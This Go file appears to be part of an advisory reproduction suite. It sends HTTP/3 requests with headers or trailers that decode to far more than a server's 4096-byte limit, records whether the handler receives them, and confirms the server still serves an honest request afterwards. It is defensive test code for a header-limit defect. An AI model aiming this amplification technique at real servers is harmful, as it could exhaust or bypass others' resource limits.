package advisory

import (
	"errors"
	"fmt"

	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/attacker"
	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/h3"
	"github.com/matrixrun/matrixrun/matrix/suites/advisories/repro/victim"
)

// MaxHeaderBytes is what the HTTP victims allow.
const MaxHeaderBytes = 4096

// largeFields is how many large fields an attack sends: far fewer bytes on the wire than
// MaxHeaderBytes, and far more when they are decoded.
const largeFields = 400

// Paths of requests.
const (
	AttackPath = "/attack"
	HonestPath = "/honest"
)

// largeHeaders sends a request with headers that are larger than the victim allows.
func largeHeaders(t *trial) error {
	return request(t, h3.Request(AttackPath, largeFields), func(e victim.Event) int { return e.Headers })
}

// largeTrailers sends a request with such trailers.
func largeTrailers(t *trial) error {
	message := append(h3.Request(AttackPath, 0), h3.Data([]byte("body"))...)
	return request(t, append(message, h3.Trailers(largeFields)...), func(e victim.Event) int { return e.Trailers })
}

// request sends a request to the victim. If its handler gets more than MaxHeaderBytes,
// that is the defect.
func request(t *trial, message []byte, size func(victim.Event) int) error {
	t.proof.Limit = MaxHeaderBytes
	t.proof.Sent = largeFields * h3.EncodedSize
	if err := exchange(t, message); err != nil {
		return err
	}
	t.proof.Delivered = true
	// The events come in the order of the requests.
	if err := useHTTP(t); err != nil {
		return err
	}
	if e, ok := t.victim.Find(func(e victim.Event) bool { return e.Handled == AttackPath }); ok {
		t.proof.Decoded = size(e)
	}
	if t.proof.Decoded > MaxHeaderBytes {
		t.found = fmt.Sprintf("the server decoded %d bytes of fields and gave them to its handler, where it allows %d", t.proof.Decoded, MaxHeaderBytes)
	}
	return nil
}

// exchange sends a request on a connection of its own, and waits until the victim has
// answered it in whatever way.
func exchange(t *trial, message []byte) error {
	server, err := t.address()
	if err != nil {
		return err
	}
	c, err := attacker.Dial(t.ctx, server, attacker.H3)
	if err != nil {
		return err
	}
	defer c.Close()
	if err = c.Write(t.ctx, 2, h3.Control(), false); err == nil {
		if err = c.Write(t.ctx, 0, message, true); err == nil {
			err = c.Await(t.ctx, func() bool { return c.Ended(0) })
		}
	}
	return ignoreClose(err)
}

// ignoreClose returns nil instead of the error of a connection that the victim closed.
func ignoreClose(err error) error {
	var closed *attacker.CloseError
	if errors.As(err, &closed) {
		return nil
	}
	return err
}

// useHTTP uses an HTTP server as an honest client does.
func useHTTP(t *trial) error {
	if err := exchange(t, h3.Request(HonestPath, 0)); err != nil {
		return fmt.Errorf("using the victim after the attack: %w", err)
	}
	_, err := t.victim.Await(func(e victim.Event) bool { return e.Handled == HonestPath })
	return err
}
